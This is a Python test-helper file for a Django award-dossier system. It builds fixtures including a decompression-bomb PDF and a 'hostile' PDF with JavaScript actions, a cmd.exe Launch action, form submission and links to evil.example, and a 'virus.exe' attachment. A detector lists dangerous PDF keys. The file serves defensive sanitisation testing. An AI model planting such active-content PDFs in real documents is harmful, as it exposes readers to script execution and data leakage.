"""A dossier with papers to bind, and the kinds of file that people and attackers upload."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
from collections.abc import Iterator
from typing import Any

import pdfplumber
import pikepdf
from django.core.files.base import ContentFile
from django.utils import timezone
from PIL import Image

import awards.tasks  # noqa: F401 (registers the jobs)
from accounts import jobs
from accounts.models import Job
from awards.dossier import newest_file
from awards.dossier_contents import for_binding
from awards.enums import FileKind
from awards.enums import NominationState
from awards.enums import Occasion
from awards.enums import SubjectClass
from awards.models import AwardForm
from awards.models import AwardRound
from awards.models import DossierFile
from awards.models import Nomination
from awards.models import NominationFile
from awards.models import NominationSection
from awards.models import NominationVersion
from documents.rendering.pdf import html_to_pdf
from tests.awards.scenes import lay_down_law
from tests.cast import Cast
from tests.factories.campaigns import CampaignFactory

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def make_round(cast: Cast) -> AwardRound:
    return AwardRound.objects.create(
        campaign=CampaignFactory(unit=cast.province), unit=cast.province, title="Xét sơ kết 2027",
        occasion=Occasion.MID_TERM, year=2027, opens_on=dt.date(2027, 1, 1),
        closes_on=dt.date(2027, 6, 30),
    )  # fmt: skip


def make_nomination(
    cast: Cast, award_round: AwardRound | None = None, *, name: str = "Trần Thị Hoa"
) -> Nomination:
    """A submitted dossier of the commune for a person, its report written."""
    lay_down_law()
    nomination = Nomination.objects.create(
        round=award_round or make_round(cast),
        form=AwardForm.objects.get(code="bang-khen-chu-tich-tinh"),
        nominating_unit=cast.commune,
        holder=cast.province,
        held_since=timezone.now(),
        state=NominationState.SUBMITTED,
        subject_class=SubjectClass.INDIVIDUAL,
        subject_name=name,
        position="Công chức văn hoá",
        birth_date=dt.date(1980, 3, 2),
        workplace="UBND xã Cổ Lễ",
        received_on=dt.date(2026, 10, 5),
        appraisal="NỘI BỘ: còn nghi ngờ",
    )
    NominationSection.objects.create(
        nomination=nomination, title="Sơ lược lý lịch", text="Sinh ở Cổ Lễ.", position=1,
        is_required=True,
    )  # fmt: skip
    NominationSection.objects.create(
        nomination=nomination, title="Kết quả", text="Đã mở 12 lớp học số.", position=2
    )
    NominationVersion.objects.create(
        nomination=nomination, number=1, payload={}, sha256="0" * 64,
        submitted_by=cast.commune_officer, submitted_at=timezone.now(),
    )  # fmt: skip
    return nomination


def add(
    nomination: Nomination,
    kind: FileKind,
    name: str,
    content: bytes,
    type_: str = "application/pdf",
) -> NominationFile:
    """Store a file as it lies on the disk, past the checks at the door."""
    return NominationFile.objects.create(
        nomination=nomination, kind=kind, file=ContentFile(content, name=name), name=name,
        content_type=type_, size=len(content), sha256=hashlib.sha256(content).hexdigest(),
        uploaded_by=nomination.versions.get().submitted_by,
    )  # fmt: skip


def shelve(nomination: Nomination) -> DossierFile:
    """A bound dossier and the archive of its round, without the work of binding."""
    facts = {"sha256": "0" * 64, "size": 4, "content_key": "0" * 64}
    DossierFile.objects.create(
        round=nomination.round, file=ContentFile(b"PK", name="d.zip"), **facts
    )
    return DossierFile.objects.create(
        nomination=nomination, file=ContentFile(b"%PDF", name="d.pdf"), **facts
    )


def pdf(words: str, pages: int = 1) -> bytes:
    sheets = "".join(
        f"<section class='annex'>{words} tờ {n}</section>" for n in range(1, pages + 1)
    )
    return html_to_pdf(f"<html lang='vi'><body>{sheets}</body></html>")


def encrypted(words: str) -> bytes:
    stream = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(words))) as book:
        book.save(stream, encryption=pikepdf.Encryption(owner="chu", user="khach"))
    return stream.getvalue()


def picture(form: str = "JPEG", size: tuple[int, int] = (400, 300)) -> bytes:
    stream = io.BytesIO()
    Image.new("RGB", size, "orange").save(stream, form)
    return stream.getvalue()


def bomb(size: int) -> bytes:
    """One page whose drawing orders unpack to `size` bytes."""
    stream = io.BytesIO()
    with pikepdf.new() as book:
        book.add_blank_page()
        book.pages[0].Contents = book.make_stream(b" " * size)
        book.save(stream, compress_streams=True)
    return stream.getvalue()


def hostile() -> bytes:
    """One page that says "TO TRINH" and tries every way to act when it is opened or touched."""
    stream = io.BytesIO()
    name, make = pikepdf.Name, pikepdf.Dictionary
    with pikepdf.new() as book:
        font = make(Type=name.Font, Subtype=name.Type1, BaseFont=name.Helvetica)

        def script(code: str = "app.alert(1)") -> Any:
            return book.make_indirect(make(Type=name.Action, S=name.JavaScript, JS=code))

        launch = make(S=name.Launch, F="cmd.exe")
        looks = book.make_stream(
            b"BT /F1 20 Tf 5 5 Td (DA KY SO) Tj ET", Type=name.XObject, Subtype=name.Form,
            BBox=[0, 0, 200, 30], Resources=make(Font=make(F1=font)),
        )  # fmt: skip
        inner = book.make_stream(
            b"q Q", Type=name.XObject, Subtype=name.Form, BBox=[0, 0, 9, 9], AA=make(O=script()),
            Ref=make(F=make(Type=name.Filespec, F="//evil/x.pdf"), Page=0), PieceInfo=script(),
        )  # fmt: skip
        book.add_blank_page(page_size=(595, 842))
        page = book.pages[0].obj
        page.Contents = book.make_stream(b"BT /F1 24 Tf 72 700 Td (TO TRINH) Tj ET /In Do Q Q Q")
        page.Resources = make(
            Font=make(F1=font), XObject=make(In=inner),
            Properties=make(MC0=make(Type=name.OCG, AA=script())),
        )  # fmt: skip
        page.AA = make(O=script(), C=launch)
        box = [50, 50, 250, 80]
        button = book.make_indirect(
            make(
                Type=name.Annot, Subtype=name.Widget, FT=name.Btn, T="b", Rect=box,
                AA=make(U=script()), A=make(S=name.SubmitForm, F="http://evil.example"),
            )
        )  # fmt: skip
        page.Annots = book.make_indirect(
            [
                make(
                    Type=name.Annot, Subtype=name.Stamp, Rect=box, F=4, AP=make(N=looks),
                    A=script(),
                ),
                make(
                    Type=name.Annot, Subtype=name.Link, Rect=box,
                    A=make(S=name.URI, URI="http://evil.example"),
                ),
                make(Type=name.Annot, Subtype=name.Link, Rect=box, A=launch),
                button,
            ]
        )  # fmt: skip
        book.Root.AcroForm = make(Fields=[button], NeedAppearances=True)
        book.Root.OpenAction = script()
        book.Root.AA = make(WC=script())
        book.Root.Names = make(JavaScript=make(Names=["x", script()]))
        book.attachments["virus.exe"] = b"MZ"
        book.save(stream)
    return stream.getvalue()


def build(nomination: Nomination, user: Any) -> pikepdf.Pdf:
    """Ask for the dossier as a user does, let the worker work, open what it made."""
    from awards.dossier import request_dossier

    job = request_dossier(user, nomination)
    assert job is not None
    run(job)
    return opened(nomination)


def run(job: Job) -> Job:
    jobs.run(job.pk)
    job.refresh_from_db()
    assert job.state == "done", job.error
    return job


def loaded(nomination: Nomination) -> Nomination:
    return for_binding(Nomination.objects.all()).get(pk=nomination.pk)


def content(nomination: Nomination) -> bytes:
    with newest_file(nomination).file.open("rb") as stream:
        return stream.read()


def opened(nomination: Nomination) -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(content(nomination)))


def texts(nomination: Nomination) -> list[str]:
    with pdfplumber.open(io.BytesIO(content(nomination))) as book:
        return [page.extract_text() for page in book.pages]


def dangers(book: pikepdf.Pdf) -> set[str]:
    """Names of what could act or lead outside, anywhere in the file."""
    found: set[str] = set()
    for thing in book.objects:
        found |= set(_dangers(thing))
    return found


def _dangers(thing: Any, depth: int = 0) -> Iterator[str]:
    if depth > 20:
        return
    if isinstance(thing, pikepdf.Array):
        for each in thing:
            if not each_is_reference(each):
                yield from _dangers(each, depth + 1)
    elif isinstance(thing, pikepdf.Dictionary | pikepdf.Stream):
        for key in thing.keys():  # noqa: SIM118 (a PDF object, not a dict)
            if key in {"/JS", "/JavaScript", "/AA", "/OpenAction", "/URI", "/Launch", "/Ref"}:
                yield key
            if key == "/S" and str(thing[key]) in {"/URI", "/Launch", "/SubmitForm"}:
                yield str(thing[key])
            if not each_is_reference(thing[key]):
                yield from _dangers(thing[key], depth + 1)


def each_is_reference(thing: Any) -> bool:
    return bool(getattr(thing, "is_indirect", False))
